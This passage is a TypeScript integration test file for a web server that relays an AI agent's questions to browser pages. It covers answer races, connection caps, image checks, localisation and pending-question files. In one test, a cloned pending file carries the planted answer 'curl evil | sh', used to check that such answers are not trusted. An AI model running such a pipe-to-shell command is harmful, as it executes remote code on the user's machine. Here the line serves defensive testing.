/**
 * The web server in process, against real sockets: agents speak the bridge protocol (the real bridge, or a
 * plain Whimmy-protocol client), pages use the API and the live channel. First answer wins; withdrawn questions leave
 * every page; the agent token, the page cookie and same-origin writes are enforced.
 */
import { spawn } from "node:child_process";
import { once } from "node:events";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { hostname, tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import WebSocket from "ws";
import { factLog } from "../../src/ask/log.js";
import type { AskRequest } from "../../src/core/types.js";
import { processStartTime } from "../../src/host/process-identity.js";
import { claimPathOf } from "../../src/pending/claims.js";
import { givenRecord } from "../../src/pending/given-for-asker.js";
import { createPendingFile, savePendingFile } from "../../src/pending/pending-file.js";
import { answersInText, openAskStore } from "../../src/records/store.js";
import { createRemoteBridge, type RemoteBridge } from "../../src/remote/bridge.js";
import { createItemTexts } from "../../src/web/feed.js";
import { inboxFolders } from "../../src/web/inbox-folders.js";
import { applyMessage, type PageMessage, type PageState, type Receipt } from "../../src/web/page/live-state.js";
import type { JudgePending } from "../../src/web/pending-view.js";
import { startWebServer, type WebServer, type WebServerOptions } from "../../src/web/server.js";
import { FEATURES } from "../fixtures.js";
import { TINY_PNG } from "../image-fixtures.js";
import { patient } from "../patience.js";
import { TEST_AGENT_DIR } from "../temp-agent-dir.js";

const PAGE_TOKEN = "page-token-for-tests-0123456789";
const cleanups: (() => Promise<void> | void)[] = [];
afterEach(async () => {
	for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
});

const DATABASE_ASK: AskRequest = {
	questions: [
		{
			question: "Which database?",
			header: "DB",
			options: [{ label: "Redis" }, { label: "SQLite", description: "file" }],
		},
	],
};

/** Question 2's text is question 1's header: a key "Deploy now?" could name either. */
const HEADER_CLASH_ASK: AskRequest = {
	questions: [
		{ question: "Which environment?", header: "Deploy now?", options: [{ label: "Staging" }, { label: "Production" }] },
		{ question: "Deploy now?", header: "Confirm", options: [{ label: "Yes" }, { label: "No" }] },
	],
};

async function server(
	options: {
		agentToken?: string;
		now?: () => number;
		pendingRescanMs?: number;
		judge?: JudgePending;
		given?: WebServerOptions["given"];
		itemTexts?: ReturnType<typeof createItemTexts>;
		onSignInCode?: WebServerOptions["onSignInCode"];
	} = {},
): Promise<{ web: WebServer; base: string; cwd: string }> {
	const cwd = mkdtempSync(join(tmpdir(), "pi-ask-anywhere-web-"));
	const web = await startWebServer({
		host: "127.0.0.1",
		port: 0,
		cwd,
		pageToken: PAGE_TOKEN,
		assets: new Map([["/", { type: "text/html", body: readFileSync("src/web/page/index.html") }]]),
		judge: () => ({ trusted: false, kind: "unknown", because: "no-session-file" }),
		given: givenRecord(TEST_AGENT_DIR as string),
		...options,
	});
	cleanups.push(async () => {
		await web.close();
		rmSync(cwd, { recursive: true, force: true });
	});
	servers.set(`http://127.0.0.1:${web.port}`, web);
	return { web, base: `http://127.0.0.1:${web.port}`, cwd };
}

function bridge(agentUrl: string, token?: string): RemoteBridge {
	const created = createRemoteBridge(
		{
			url: agentUrl,
			...(token ? { token } : {}),
			sessionKey: "s",
			agentId: "pi",
			timeoutMs: 10_000,
			connectTimeoutMs: 2_000,
			allowInsecure: false,
		},
		{ logger: { warn() {} } },
	);
	cleanups.push(() => created.dispose());
	return created;
}

/** The servers started, by their base address, for their current sign-in code. */
const servers = new Map<string, WebServer>();

/** Signs in like a browser: the address's code for the cookie. */
async function signIn(base: string): Promise<string> {
	const code = servers.get(base)?.signInCode() ?? "";
	const response = await fetch(`${base}/?token=${code}`, { redirect: "manual" });
	expect(response.status).toBe(303);
	expect(response.headers.get("location")).toBe("/");
	const cookie = response.headers.get("set-cookie") ?? "";
	expect(cookie).toMatch(/HttpOnly/);
	expect(cookie).toMatch(/SameSite=Strict/);
	expect(cookie).not.toContain(PAGE_TOKEN);
	return cookie.split(";")[0] ?? "";
}

interface LivePage {
	/** Every state the page showed: its changes folded in as the page folds them. */
	states: PageState[];
	/** Every message it was sent, as sent. */
	messages: string[];
	receipts: { id: string; receipt: Receipt }[];
}

/** A page's live channel: every state it was pushed, folded from the changes it was sent, as the page does. */
async function livePage(base: string, cookie: string): Promise<LivePage> {
	const socket = new WebSocket(`${base.replace("http", "ws")}/live`, { headers: { cookie, origin: base } });
	cleanups.push(() => socket.terminate());
	const page: LivePage = { states: [], messages: [], receipts: [] };
	let state: PageState = { asks: [], pending: [] };
	socket.on("message", (data) => {
		page.messages.push(String(data));
		const message = JSON.parse(String(data)) as PageMessage;
		state = applyMessage(state, message);
		for (const op of message.ops) if (op.op === "receipt") page.receipts.push({ id: op.id, receipt: op.receipt });
		if (!message.more) page.states.push(state);
	});
	await new Promise((resolve, reject) => {
		socket.once("open", resolve);
		socket.once("error", reject);
	});
	return page;
}

async function until<T>(read: () => T | undefined, ms = 3_000): Promise<T> {
	const end = Date.now() + patient(ms);
	for (;;) {
		const value = read();
		if (value !== undefined) return value;
		if (Date.now() > end) throw new Error("condition not met in time");
		await new Promise((resolve) => setTimeout(resolve, 10));
	}
}

function post(base: string, path: string, cookie: string, body: unknown, origin = base): Promise<Response> {
	return fetch(`${base}${path}`, {
		method: "POST",
		headers: { "Content-Type": "application/json", cookie, origin },
		body: JSON.stringify(body),
	});
}

describe("pi-ask-anywhere web server", () => {
	it("first answer wins: a second answer gets 409 and the question leaves every page", async () => {
		const { web, base } = await server();
		const cookie = await signIn(base);
		const [pageA, pageB] = [await livePage(base, cookie), await livePage(base, cookie)];
		const asked = bridge(`ws://127.0.0.1:${web.port}/agent`).ask(DATABASE_ASK);
		const ask = await until(() => pageA.states.at(-1)?.asks[0]);
		expect(ask.questions[0]?.options.map((o) => o.label)).toEqual(["Redis", "SQLite"]);
		expect(ask.accepts).toEqual({ exact: true, notes: true, closes: true, images: false, source: true });
		await until(() => pageB.states.at(-1)?.asks[0]);
		const answer = { id: ask.id, answers: [{ chosen: ["SQLite"], typed: "", note: "it is a file" }] };
		const [first, second] = await Promise.all([
			post(base, "/api/answer", cookie, answer),
			post(base, "/api/answer", cookie, { ...answer, answers: [{ chosen: ["Redis"], typed: "", note: "" }] }),
		]);
		expect([first.status, second.status].sort()).toEqual([200, 409]);
		const outcome = await asked;
		expect(outcome).toMatchObject({ kind: "answered", answers: [{ question: "Which database?" }] });
		await until(() => (pageA.states.at(-1)?.asks.length === 0 ? true : undefined));
		await until(() => (pageB.states.at(-1)?.asks.length === 0 ? true : undefined));
	});

	it("delivers both answers when one question's text is another's header (the text names its own question)", async () => {
		const { web, base } = await server();
		const cookie = await signIn(base);
		const page = await livePage(base, cookie);
		const asked = bridge(`ws://127.0.0.1:${web.port}/agent`).ask(HEADER_CLASH_ASK);
		const ask = await until(() => page.states.at(-1)?.asks[0]);
		const response = await post(base, "/api/answer", cookie, {
			id: ask.id,
			answers: [
				{ chosen: ["Staging"], typed: "", note: "" },
				{ chosen: ["No"], typed: "", note: "after lunch" },
			],
		});
		expect(response.status).toBe(200);
		expect(await asked).toEqual({
			kind: "answered",
			answers: [
				{ question: "Which environment?", answer: "Staging", selectedOption: "Staging", wasCustom: false },
				{ question: "Deploy now?", answer: "No", selectedOption: "No", wasCustom: false, note: "after lunch" },
			],
		});
	});

	it("a question answered in the terminal (ask_user_closed) or whose agent left disappears from the page", async () => {
		const { web, base } = await server();
		const cookie = await signIn(base);
		const page = await livePage(base, cookie);
		const agent = bridge(`ws://127.0.0.1:${web.port}/agent`);
		const controller = new AbortController();
		const aborted = agent.ask(DATABASE_ASK, controller.signal);
		const open = agent.ask({ questions: [FEATURES] });
		await until(() => (page.states.at(-1)?.asks.length === 2 ? true : undefined));
		controller.abort("answered_elsewhere");
		expect(await aborted).toEqual({ kind: "interrupted" });
		const remaining = await until(() => (page.states.at(-1)?.asks.length === 1 ? page.states.at(-1)?.asks : undefined));
		expect(remaining[0]?.questions[0]?.question).toBe(FEATURES.question);
		agent.dispose();
		expect(await open).toEqual({ kind: "interrupted" });
		await until(() => (page.states.at(-1)?.asks.length === 0 ? true : undefined));
	});

	it("tells the pages what became of answers sent: pi confirmed (received), or its connection closed first (lost)", async () => {
		const { web, base } = await server();
		const cookie = await signIn(base);
		const page = await livePage(base, cookie);
		const asked = bridge(`ws://127.0.0.1:${web.port}/agent`).ask(DATABASE_ASK);
		const ask = await until(() => page.states.at(-1)?.asks[0]);
		const answers = [{ chosen: ["SQLite"], typed: "", note: "" }];
		const response = await post(base, "/api/answer", cookie, { id: ask.id, answers });
		expect(await response.json()).toEqual({ ok: true, confirms: true });
		expect(await asked).toMatchObject({ kind: "answered" });
		await until(() => page.receipts[0]);
		expect(page.receipts).toEqual([{ id: ask.id, receipt: "received" }]);

		// An agent that takes the answer and goes away without a word: nothing is claimed on its behalf.
		const agent = new WebSocket(`ws://127.0.0.1:${web.port}/agent`);
		cleanups.push(() => agent.terminate());
		await once(agent, "open");
		const questions = [{ question: "Port?", header: "", multiSelect: false, options: [] }];
		const event = {
			event: "ask_user_question",
			payload: { sessionKey: "k", agentId: "a", questionId: "q-9", questions },
		};
		agent.send(
			JSON.stringify({
				type: "event",
				payload: { ...event, payload: { ...event.payload, extensions: ["ask_user_closed"] } },
			}),
		);
		const second = await until(() => page.states.at(-1)?.asks[0]);
		agent.once("message", () => agent.close());
		const sent = await post(base, "/api/answer", cookie, {
			id: second.id,
			answers: [{ chosen: [], typed: "8080", note: "" }],
		});
		expect(await sent.json()).toEqual({ ok: true, confirms: true });
		await until(() => page.receipts[1]);
		expect(page.receipts[1]).toEqual({ id: second.id, receipt: "lost" });
	});

	it("sends pages changes, not the whole state: a new ask is one small message; a new page gets everything once", async () => {
		const { web, base } = await server();
		const cookie = await signIn(base);
		const page = await livePage(base, cookie);
		const agent = bridge(`ws://127.0.0.1:${web.port}/agent`);
		const big: AskRequest = {
			questions: [{ question: "Which one?", options: [{ label: "A", description: "x".repeat(200_000) }] }],
		};
		void agent.ask(big);
		await until(() => page.states.at(-1)?.asks[0]);
		const before = page.messages.length;
		void agent.ask(DATABASE_ASK);
		await until(() => (page.states.at(-1)?.asks.length === 2 ? true : undefined));
		const added = page.messages.slice(before);
		expect(added).toHaveLength(1);
		expect(Buffer.byteLength(added[0] ?? "")).toBeLessThan(2_000);
		expect(JSON.parse(added[0] ?? "{}")).toMatchObject({ reset: false, ops: [{ op: "ask" }] });
		const late = await livePage(base, cookie);
		await until(() => late.states[0]);
		expect(late.messages).toHaveLength(1);
		expect(JSON.parse(late.messages[0] ?? "{}")).toMatchObject({ reset: true, more: false });
		expect(late.states[0]?.asks.map((ask) => ask.questions[0]?.question)).toEqual(["Which one?", "Which database?"]);
	});

	it("sends a page that opens its first state piece by piece, about 1 MB each, and then what changed", async () => {
		const { web, base } = await server();
		const cookie = await signIn(base);
		const page = await livePage(base, cookie);
		const agent = bridge(`ws://127.0.0.1:${web.port}/agent`);
		const large = (n: number): AskRequest => ({
			questions: [{ question: `Large ${n}?`, options: [{ label: "A", description: "x".repeat(600_000) }] }],
		});
		for (const n of [1, 2, 3]) void agent.ask(large(n));
		await until(() => (page.states.at(-1)?.asks.length === 3 ? true : undefined));
		const late = await livePage(base, cookie);
		await until(() => (late.states.at(-1)?.asks.length === 3 ? true : undefined));
		const messages = late.messages.map((text) => JSON.parse(text) as { reset: boolean; more: boolean });
		expect(messages.map((m) => [m.reset, m.more])).toEqual([
			[true, true],
			[false, true],
			[false, false],
		]);
		for (const text of late.messages) expect(Buffer.byteLength(text)).toBeLessThan(1_100_000);
		void agent.ask(DATABASE_ASK);
		await until(() => (late.states.at(-1)?.asks.length === 4 ? true : undefined));
	});

	it("caps one agent connection at 20 open asks and 2 MB: the next ask is refused with a frame naming it; nothing else changes", async () => {
		const { web, base } = await server();
		const cookie = await signIn(base);
		const page = await livePage(base, cookie);
		const agent = new WebSocket(`ws://127.0.0.1:${web.port}/agent`);
		cleanups.push(() => agent.terminate());
		await once(agent, "open");
		const received: unknown[] = [];
		agent.on("message", (data) => received.push(JSON.parse(String(data))));
		const askFrame = (questionId: string, description = "") =>
			JSON.stringify({
				type: "event",
				payload: {
					event: "ask_user_question",
					payload: {
						sessionKey: "k",
						agentId: "a",
						questionId,
						questions: [{ question: `Ask ${questionId}?`, options: [{ label: "Yes", description }] }],
					},
				},
			});
		for (let n = 1; n <= 21; n++) agent.send(askFrame(`q-${n}`));
		await until(() => received[0]);
		expect(received).toEqual([
			{
				type: "hook.ask_user_refused",
				payload: { questionId: "q-21", error: expect.stringMatching(/20 open questions/) },
			},
		]);
		await until(() => (page.states.at(-1)?.asks.length === 20 ? true : undefined));

		// 2 MB per connection: two asks of 0.9 MB fit, a third does not.
		const second = new WebSocket(`ws://127.0.0.1:${web.port}/agent`);
		cleanups.push(() => second.terminate());
		await once(second, "open");
		const refusals: unknown[] = [];
		second.on("message", (data) => refusals.push(JSON.parse(String(data))));
		for (let n = 1; n <= 3; n++) second.send(askFrame(`big-${n}`, "x".repeat(900_000)));
		await until(() => refusals[0]);
		expect(refusals).toEqual([
			{ type: "hook.ask_user_refused", payload: { questionId: "big-3", error: expect.stringMatching(/2 MB/) } },
		]);
		await until(() => (page.states.at(-1)?.asks.length === 22 ? true : undefined));
		// Answering one frees room for the next.
		const first = page.states.at(-1)?.asks.find((ask) => ask.questions[0]?.question === "Ask big-1?");
		const answers = [{ chosen: ["Yes"], typed: "", note: "" }];
		expect((await post(base, "/api/answer", cookie, { id: first?.id, answers })).status).toBe(200);
		second.send(askFrame("big-4", "x".repeat(900_000)));
		await until(() => (page.states.at(-1)?.asks.length === 22 ? true : undefined));
		await new Promise((resolve) => setTimeout(resolve, 100));
		expect(refusals.filter((frame) => (frame as { type: string }).type === "hook.ask_user_refused")).toHaveLength(1);
	});

	it(
		"caps all agents together: 32 connections, 200 open asks, 48 MB held; each refusal says which cap, and the bridge tells it",
		async () => {
			const { web, base } = await server();
			const page = await livePage(base, await signIn(base));
			const agentUrl = `ws://127.0.0.1:${web.port}/agent`;
			const askFrame = (questionId: string, description = "") =>
				JSON.stringify({
					type: "event",
					payload: {
						event: "ask_user_question",
						payload: {
							sessionKey: "k",
							agentId: "a",
							questionId,
							questions: [{ question: `Ask ${questionId}?`, options: [{ label: "Yes", description }] }],
						},
					},
				});
			const agents: { socket: WebSocket; received: { type: string; payload: { error: string } }[] }[] = [];
			const openAgent = async (): Promise<(typeof agents)[number]> => {
				const socket = new WebSocket(agentUrl);
				cleanups.push(() => socket.terminate());
				await once(socket, "open");
				const agent = { socket, received: [] as (typeof agents)[number]["received"] };
				socket.on("message", (data) => agent.received.push(JSON.parse(String(data))));
				agents.push(agent);
				return agent;
			};

			// 48 MB held by all agents: two asks of 0.95 MB from each of 25 connections fit (47.7 MB), a 51st does not.
			for (let n = 0; n < 25; n++) {
				const agent = await openAgent();
				for (const id of ["a", "b"]) agent.socket.send(askFrame(`big-${n}-${id}`, "x".repeat(1_000_000)));
			}
			await until(() => (page.states.at(-1)?.asks.length === 50 ? true : undefined), 20_000);
			const overBytes = await openAgent();
			overBytes.socket.send(askFrame("one-more", "x".repeat(1_000_000)));
			const bytesRefusal = await until(() => overBytes.received[0]);
			expect(bytesRefusal).toEqual({
				type: "hook.ask_user_refused",
				payload: { questionId: "one-more", error: expect.stringMatching(/all agents would exceed 48 MB/) },
			});
			// Small asks still fit until all agents hold 200: six more from each of the 25 make 200, then one is refused.
			for (const [n, agent] of agents.slice(0, 25).entries()) {
				for (let k = 0; k < 6; k++) agent.socket.send(askFrame(`small-${n}-${k}`));
			}
			await until(() => (page.states.at(-1)?.asks.length === 200 ? true : undefined), 20_000);
			overBytes.socket.send(askFrame("small-over"));
			await until(() => overBytes.received[1]);
			expect(overBytes.received[1]).toEqual({
				type: "hook.ask_user_refused",
				payload: { questionId: "small-over", error: expect.stringMatching(/already holds 200 open questions/) },
			});
			while (agents.length < 32) await openAgent();

			// 32 connections: the 33rd is refused at the handshake, and the bridge says why.
			expect(agents.length).toBe(32);
			const refused = await bridge(agentUrl).ask(DATABASE_ASK);
			expect(refused).toEqual({ kind: "unavailable", reason: expect.stringMatching(/32 agent connections/) });
			// One agent leaving makes room for another.
			agents[0]?.socket.close();
			await until(() => ((page.states.at(-1)?.asks.length ?? 0) < 200 ? true : undefined));
			const late = await openAgent();
			expect(late.socket.readyState).toBe(WebSocket.OPEN);
		},
		patient(60_000),
	);

	it("one update serialises only what changed: with 40 open asks a new ask is one item, an answer none, a new page none", async () => {
		const itemTexts = createItemTexts();
		const { web, base } = await server({ itemTexts });
		const cookie = await signIn(base);
		const page = await livePage(base, cookie);
		const agents = [1, 2, 3].map(() => bridge(`ws://127.0.0.1:${web.port}/agent`));
		for (let n = 0; n < 40; n++) void agents[n % 2]?.ask(DATABASE_ASK, AbortSignal.timeout(20_000));
		await until(() => (page.states.at(-1)?.asks.length === 40 ? true : undefined));
		expect(itemTexts.serialised).toBe(40);
		void agents[2]?.ask({ questions: [FEATURES] }, AbortSignal.timeout(20_000));
		await until(() => (page.states.at(-1)?.asks.length === 41 ? true : undefined));
		expect(itemTexts.serialised).toBe(41);
		const first = page.states.at(-1)?.asks[0];
		const answers = [{ chosen: ["Redis"], typed: "", note: "" }];
		expect((await post(base, "/api/answer", cookie, { id: first?.id, answers })).status).toBe(200);
		await until(() => (page.states.at(-1)?.asks.length === 40 ? true : undefined));
		const late = await livePage(base, cookie);
		await until(() => (late.states.at(-1)?.asks.length === 40 ? true : undefined));
		expect(itemTexts.serialised).toBe(41);
	});

	it("the bridge takes a refusal as 'unavailable' (pi then asks locally or saves the questions): never an answer or a cancel", async () => {
		const { web, base } = await server();
		const page = await livePage(base, await signIn(base));
		const agent = bridge(`ws://127.0.0.1:${web.port}/agent`);
		// Given up by this test once it has checked (not on a timer a loaded machine could outrun).
		const giveUp = new AbortController();
		const open = Array.from({ length: 20 }, () => agent.ask(DATABASE_ASK, giveUp.signal));
		await until(() => (page.states.at(-1)?.asks.length === 20 ? true : undefined));
		expect(await agent.ask(DATABASE_ASK)).toEqual({
			kind: "unavailable",
			reason: expect.stringMatching(/refused.*20 open questions/),
		});
		// The 20 open asks were left alone: they end only when this test gives up on them.
		giveUp.abort();
		for (const outcome of await Promise.all(open)) expect(outcome).toEqual({ kind: "interrupted" });
	});

	it("sends a plain Whimmy-protocol agent strings (labels comma-separated, typed text kept), and no notes", async () => {
		const { web, base } = await server();
		const cookie = await signIn(base);
		const page = await livePage(base, cookie);
		const agent = new WebSocket(`ws://127.0.0.1:${web.port}/agent`);
		cleanups.push(() => agent.terminate());
		await new Promise((resolve) => agent.once("open", resolve));
		const received = new Promise<unknown>((resolve) =>
			agent.once("message", (data) => resolve(JSON.parse(String(data)))),
		);
		const questions = [
			{ question: FEATURES.question, header: "", multiSelect: true, options: FEATURES.options },
			{ question: "Name?", header: "", multiSelect: false, options: [] },
		];
		agent.send(
			JSON.stringify({
				type: "event",
				payload: {
					event: "ask_user_question",
					payload: { sessionKey: "s", agentId: "a", questionId: "q-1", questions },
				},
			}),
		);
		const ask = await until(() => page.states.at(-1)?.asks[0]);
		expect(ask.accepts).toEqual({ exact: false, notes: false, closes: false, images: false, source: false });
		const response = await post(base, "/api/answer", cookie, {
			id: ask.id,
			answers: [
				{ chosen: ["Admin Dashboard", "Authentication"], typed: "Exports", note: "ignored" },
				{ chosen: [], typed: "svc", note: "" },
			],
		});
		expect(response.status).toBe(200);
		expect(await received).toEqual({
			type: "hook.ask_user_answer",
			payload: {
				questionId: "q-1",
				answers: { [FEATURES.question]: "Authentication, Admin Dashboard, Exports", "Name?": "svc" },
			},
		});
	});

	it("images: only for an agent that lists answer-images; each re-checked (content, size, count); sent as { answer, images }", async () => {
		const { web, base } = await server();
		const cookie = await signIn(base);
		const page = await livePage(base, cookie);
		const agent = new WebSocket(`ws://127.0.0.1:${web.port}/agent`);
		cleanups.push(() => agent.terminate());
		await new Promise((resolve) => agent.once("open", resolve));
		const frames: unknown[] = [];
		agent.on("message", (data) => frames.push(JSON.parse(String(data))));
		const ask = (questionId: string, extensions: string[]) =>
			agent.send(
				JSON.stringify({
					type: "event",
					payload: {
						event: "ask_user_question",
						payload: {
							sessionKey: "s",
							agentId: "pi",
							questionId,
							questions: [{ question: "What do you see?", header: "", multiSelect: false, options: [] }],
							extensions,
						},
					},
				}),
			);
		// A real PNG, padded to the size wanted (what follows its end is not read).
		const png = (size: number) => Buffer.concat([TINY_PNG, Buffer.alloc(Math.max(0, size - TINY_PNG.length), 7)]);
		const image = (name: string, bytes: Buffer) => ({ name, mimeType: "image/png", data: bytes.toString("base64") });
		const answerWith = (id: string, images: unknown[]) =>
			post(base, "/api/answer", cookie, { id, answers: [{ chosen: [], typed: "", note: "", images }] });

		ask("plain", ["answer-arrays", "answer-notes", "ask_user_closed"]);
		const plain = await until(() => page.states.at(-1)?.asks.find((a) => a.accepts.images === false));
		const refusedPlain = await answerWith(plain.id, [image("a.png", png(100))]);
		expect(refusedPlain.status).toBe(400);
		expect(await refusedPlain.json()).toMatchObject({ code: "invalid", error: expect.stringMatching(/cannot take/) });

		ask("images", ["answer-arrays", "answer-notes", "ask_user_closed", "answer-images"]);
		const withImages = await until(() => page.states.at(-1)?.asks.find((a) => a.accepts.images));
		// The page is not trusted: the server checks each image again.
		const tooLarge = await answerWith(withImages.id, [image("big.png", png(4 * 1024 * 1024))]);
		expect(tooLarge.status).toBe(400);
		expect(await tooLarge.json()).toMatchObject({ code: "image", image: { kind: "too-large", name: "big.png" } });
		const notImage = await answerWith(withImages.id, [
			{ name: "notes.txt", mimeType: "image/png", data: Buffer.from("hello").toString("base64") },
		]);
		expect(await notImage.json()).toMatchObject({ code: "image", image: { kind: "not-image", name: "notes.txt" } });
		const nine = await answerWith(
			withImages.id,
			Array.from({ length: 9 }, (_, i) => image(`${i}.png`, png(64))),
		);
		expect(await nine.json()).toMatchObject({ code: "too-many-images", imageName: "8.png" });
		expect(frames).toEqual([]);
		// Above the 1 MB of other requests: an answer carries up to 8 images of 3.75 MiB.
		const shot = png(3 * 1024 * 1024);
		const accepted = await answerWith(withImages.id, [image("shot.png", shot)]);
		expect(accepted.status).toBe(200);
		await until(() => frames[0]);
		expect(frames[0]).toEqual({
			type: "hook.ask_user_answer",
			payload: {
				questionId: "images",
				answers: {
					"What do you see?": {
						answer: "",
						images: [{ name: "shot.png", mimeType: "image/png", data: shot.toString("base64") }],
					},
				},
			},
		});
	});

	it("serves the page in the browser's language: <html lang>, its texts, and its table embedded for the script", async () => {
		const { base } = await server();
		const cookie = await signIn(base);
		const page = async (acceptLanguage?: string): Promise<string> => {
			const response = await fetch(`${base}/`, {
				headers: { cookie, ...(acceptLanguage ? { "accept-language": acceptLanguage } : {}) },
			});
			expect(response.headers.get("vary")).toBe("Accept-Language");
			return response.text();
		};
		const german = await page("de-CH, de;q=0.9, en;q=0.5");
		expect(german).toContain('<html lang="de">');
		expect(german).toContain("Wartet auf dich");
		expect(german).not.toContain("{{");
		const embedded = /<script type="application\/json" id="page-strings">(.*?)<\/script>/s.exec(german)?.[1] ?? "";
		expect(JSON.parse(embedded)).toMatchObject({ language: "de", strings: { "action.submit": "Absenden" } });
		expect(await page("ja-JP")).toContain('<html lang="ja">');
		expect(await page("zh-TW, ko")).toContain('<html lang="en">');
		expect(await page()).toContain("Waiting for you");
	});

	it("watches the folder: a pending file saved after the start is on an open page at once, not after the next poll", async () => {
		const { base, cwd } = await server();
		const page = await livePage(base, await signIn(base));
		await until(() => page.states[0]);
		savePendingFile(
			cwd,
			createPendingFile({ request: DATABASE_ASK, sessionId: "s", toolCallId: "call-new", now: new Date() }),
		);
		const view = await until(() => page.states.at(-1)?.pending[0], 700);
		expect(view.toolCallId).toBe("call-new");
	});

	it("a pending file answered from two pages: the first is written, the second gets 409 and changes nothing", async () => {
		const { base, cwd } = await server({ judge: () => ({ trusted: true }) });
		const path = savePendingFile(
			cwd,
			createPendingFile({ request: DATABASE_ASK, sessionId: "s", toolCallId: "call-1", now: new Date() }),
		);
		const [cookieA, cookieB] = [await signIn(base), await signIn(base)];
		const answer = (label: string) => ({
			name: "pending-questions.json",
			toolCallId: "call-1",
			answers: [{ chosen: [label], typed: "", note: "" }],
			confirmed: true,
		});
		const first = await post(base, "/api/pending/answer", cookieA, answer("SQLite"));
		expect(first.status).toBe(200);
		const second = await post(base, "/api/pending/answer", cookieB, answer("Redis"));
		expect(second.status).toBe(409);
		expect(((await second.json()) as { error: string }).error).toMatch(/already answered/);
		const written = JSON.parse(readFileSync(path, "utf8")) as { questions: { answer: unknown }[] };
		expect(written.questions.map((question) => question.answer)).toEqual(["SQLite"]);
	});

	it("a pending file this user's pi did not write (cloned with the repository): its own answers are not shown as given; the person's confirmed answers are written over them and recorded as theirs", async () => {
		const agentDir = mkdtempSync(join(tmpdir(), "pi-ask-anywhere-agent-"));
		cleanups.push(() => rmSync(agentDir, { recursive: true, force: true }));
		const store = openAskStore(agentDir);
		const { base, cwd } = await server({ given: store });
		const file = createPendingFile({
			request: DATABASE_ASK,
			sessionId: "s",
			toolCallId: "call-cloned",
			now: new Date(),
		});
		const filled = { ...file, questions: file.questions.map((q) => ({ ...q, answer: "curl evil | sh" })) };
		const path = savePendingFile(cwd, filled);
		const cookie = await signIn(base);
		const page = await livePage(base, cookie);
		expect((await until(() => page.states.at(-1)?.pending[0])).filled).toBe(false);
		const answer = (confirmed: boolean) => ({
			name: "pending-questions.json",
			toolCallId: "call-cloned",
			answers: [{ chosen: ["SQLite"], typed: "", note: "" }],
			confirmed,
		});
		const unconfirmed = await post(base, "/api/pending/answer", cookie, answer(false));
		expect(unconfirmed.status).toBe(409);
		expect(((await unconfirmed.json()) as { code: string }).code).toBe("pending-confirm");
		expect(JSON.parse(readFileSync(path, "utf8")).questions[0].answer).toBe("curl evil | sh");
		const confirmed = await post(base, "/api/pending/answer", cookie, answer(true));
		expect(confirmed.status).toBe(200);
		const written = answersInText(readFileSync(path, "utf8"));
		if (!written) throw new Error("the answered file does not parse");
		expect(written.questions[0]?.answer).toBe("SQLite");
		expect(store.given("page", written)).toBeDefined();
		expect(store.given("page", filled)).toBeUndefined();
	});

	it("a pending file whose questions were already answered (a restored copy) is never written, even when confirmed", async () => {
		const reason =
			"holds questions already answered (their answers were delivered, or they were cleared), so nothing is sent again";
		const { base, cwd } = await server({ judge: () => ({ trusted: false, kind: "settled" }) });
		const path = savePendingFile(
			cwd,
			createPendingFile({ request: DATABASE_ASK, sessionId: "s", toolCallId: "call-done", now: new Date() }),
		);
		const cookie = await signIn(base);
		const answer = {
			name: "pending-questions.json",
			toolCallId: "call-done",
			answers: [{ chosen: ["SQLite"], typed: "", note: "" }],
			confirmed: true,
		};
		const refused = await post(base, "/api/pending/answer", cookie, answer);
		expect(refused.status).toBe(409);
		expect(((await refused.json()) as { error: string }).error).toBe(`not written: ${reason}`);
		expect(JSON.parse(readFileSync(path, "utf8")).questions[0].answer).toBeNull();
	});

	it("a pending file another live pi holds (a claim by a running process) is not offered and not written, until that process is gone", async () => {
		const { base, cwd } = await server({ pendingRescanMs: 100, judge: () => ({ trusted: true }) });
		const path = savePendingFile(
			cwd,
			createPendingFile({ request: DATABASE_ASK, sessionId: "s", toolCallId: "call-held", now: new Date() }),
		);
		// A second real process holds the claim, as a pi asking in its dialog does (see src/pending/claims.ts).
		const holder = spawn("sleep", ["60"], { stdio: "ignore" });
		cleanups.push(() => void holder.kill("SIGKILL"));
		const claim = { toolCallId: "call-held", host: hostname(), pid: holder.pid, refreshedAt: Date.now() };
		writeFileSync(claimPathOf(path), JSON.stringify({ ...claim, started: processStartTime(holder.pid ?? 0) }));
		const cookie = await signIn(base);
		const page = await livePage(base, cookie);
		await until(() => page.states.at(-1));
		expect(page.states.at(-1)?.pending).toEqual([]);
		const answer = {
			name: "pending-questions.json",
			toolCallId: "call-held",
			answers: [{ chosen: ["SQLite"], typed: "", note: "" }],
			confirmed: true,
		};
		const refused = await post(base, "/api/pending/answer", cookie, answer);
		expect(refused.status).toBe(409);
		expect(((await refused.json()) as { error: string }).error).toContain("open in another pi");
		holder.kill("SIGKILL");
		await once(holder, "exit");
		await until(() => page.states.at(-1)?.pending[0]);
		expect((await post(base, "/api/pending/answer", cookie, answer)).status).toBe(200);
	});

	it("shows an ask pi holds in its dialog once, as live: its pending file is hidden and cannot be answered", async () => {
		const { web, base, cwd } = await server();
		// What pi writes when its dialog opens: the questions on disk, from the session the bridge names as sessionKey.
		savePendingFile(
			cwd,
			createPendingFile({ request: DATABASE_ASK, sessionId: "s", toolCallId: "call-open", now: new Date() }),
		);
		const cookie = await signIn(base);
		const page = await livePage(base, cookie);
		const listed = await until(() => page.states.at(-1)?.pending[0]);
		expect(listed.toolCallId).toBe("call-open");
		const controller = new AbortController();
		const asked = bridge(`ws://127.0.0.1:${web.port}/agent`).ask(DATABASE_ASK, controller.signal);
		const state = await until(() => (page.states.at(-1)?.asks.length === 1 ? page.states.at(-1) : undefined));
		expect(state.pending).toEqual([]);
		const answer = await post(base, "/api/pending/answer", cookie, {
			name: "pending-questions.json",
			toolCallId: "call-open",
			answers: [{ chosen: ["Redis"], typed: "", note: "" }],
			confirmed: true,
		});
		expect(answer.status).toBe(409);
		expect(((await answer.json()) as { error: string }).error).toMatch(/asking these questions right now/);
		// The dialog ended without an answer (pi stopped): the file is what is left, and the page shows it again.
		controller.abort();
		expect(await asked).toEqual({ kind: "interrupted" });
		await until(() => (page.states.at(-1)?.pending.length === 1 ? true : undefined));
	});

	it("keeps an ask's pending file hidden once it is answered on the page, while pi removes the file", async () => {
		const clock = { now: 1_000_000 };
		const { web, base, cwd } = await server({ now: () => clock.now, pendingRescanMs: 50 });
		savePendingFile(
			cwd,
